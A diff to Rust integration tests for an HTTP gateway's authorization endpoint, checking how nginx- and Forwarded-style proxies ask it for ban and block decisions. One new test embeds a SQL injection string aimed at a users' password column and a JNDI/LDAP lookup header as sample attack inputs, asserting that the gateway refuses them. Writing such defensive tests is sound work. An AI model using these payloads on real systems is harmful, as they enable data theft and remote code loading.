@@ -1,7 +1,10 @@
 //! Decisions are enforced while they last; other proxies may ask for them.
 
+use std::net::SocketAddr;
 use std::time::{Duration, SystemTime, UNIX_EPOCH};
 
+use gateway::route::{Mode, RouteSettings};
+use gateway::settings::AuthzDialect;
 use model::decision::{Basis, Decision, DecisionId, Measure, Origin, Standing, Target};
 use model::network::Network;
 use model::time::Timestamp;
@@ -69,27 +72,58 @@ async fn a_throttle_lets_one_request_a_second_pass() {
     assert_eq!((status(&answer), field(&answer, "retry-after").as_deref()), (429, Some("1")));
 }
 
+/// A gateway that other proxies ask, with a route that blocks and one that only observes.
+async fn start_asked(dialect: AuthzDialect, upstream: SocketAddr) -> Running {
+    start(&[upstream], |settings| {
+        trust_loopback(settings);
+        settings.authz_path = Some("/authz".to_owned());
+        settings.authz_dialect = dialect;
+        let of_shop = RouteSettings {
+            host: Some("shop.example".to_owned()),
+            mode: Mode::Block,
+            ..settings.policy.routes[0].clone()
+        };
+        settings.policy.routes.push(of_shop);
+    })
+    .await
+}
+
+const NGINX: &str = "X-Original-Method: POST\r\nX-Original-URI: ";
+const FORWARDED: &str = "X-Forwarded-Method: POST\r\nX-Forwarded-Host: shop.example\r\nX-Forwarded-Uri: ";
+
 #[tokio::test]
 async fn other_proxies_ask_for_a_decision() {
     let upstream = upstream(Does::Echo).await;
-    let running = start(&[upstream.address], |settings| {
-        trust_loopback(settings);
-        settings.authz_path = Some("/authz".to_owned());
-    })
-    .await;
-    decide(&running, "203.0.113.7", Measure::Ban, Duration::from_secs(60));
-    let nginx = "X-Original-URI: /login?a=b\r\nX-Original-Method: POST\r\n";
-    let traefik = "X-Forwarded-Uri: /login?a=b\r\nX-Forwarded-Method: POST\r\nX-Forwarded-Host: shop\r\n";
-    for fields in [nginx, traefik] {
+    for (dialect, fields) in [(AuthzDialect::Nginx, NGINX), (AuthzDialect::Forwarded, FORWARDED)] {
+        let running = start_asked(dialect, upstream.address).await;
+        decide(&running, "203.0.113.7", Measure::Ban, Duration::from_secs(60));
+        let fields = format!("{fields}/login?a=b\r\n");
         let allowed = running.get("/authz", &format!("{fields}X-Forwarded-For: 203.0.113.8\r\n")).await;
         let refused = running.get("/authz", &format!("{fields}X-Forwarded-For: 203.0.113.7\r\n")).await;
         assert_eq!((status(&allowed), status(&refused)), (200, 403), "{fields}");
+        assert_eq!(status(&running.get("/authz", "").await), 400);
+        let events = running.events(2).await;
+        let seen = (events[0].method.as_str(), events[0].path.as_str(), events[0].status);
+        assert_eq!(seen, ("POST", "/login?a=b", None));
     }
-    assert_eq!(status(&running.get("/authz", "").await), 400);
     assert_eq!(*upstream.connections.lock().unwrap(), 0);
-    let events = running.events(4).await;
-    let seen = (events[0].method.as_str(), events[0].path.as_str(), events[0].status);
-    assert_eq!(seen, ("POST", "/login?a=b", None));
+}
+
+#[tokio::test]
+async fn a_client_cannot_choose_what_is_asked_about() {
+    const ATTACK: &str = "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20\r\n";
+    let upstream = upstream(Does::Echo).await;
+    for (dialect, fields, of_client) in [
+        (AuthzDialect::Nginx, NGINX, "X-Forwarded-Host: other\r\nX-Original-Host: other\r\nX-Forwarded-Uri: /\r\n"),
+        (AuthzDialect::Forwarded, FORWARDED, "X-Original-URI: /\r\nX-Original-Host: other\r\n"),
+    ] {
+        let running = start_asked(dialect, upstream.address).await;
+        let answer = running.get("/authz", &format!("{of_client}{fields}{ATTACK}")).await;
+        assert_eq!(status(&answer), 403, "{dialect:?}: {answer}");
+        let hidden = format!("{fields}/\r\nX-Forwarded-Server: ${{jndi:ldap://203.0.113.9/a}}\r\n");
+        let answer = running.get("/authz", &hidden).await;
+        assert_eq!(status(&answer), 403, "what the client sent beside is inspected: {answer}");
+    }
 }
 
 #[tokio::test]
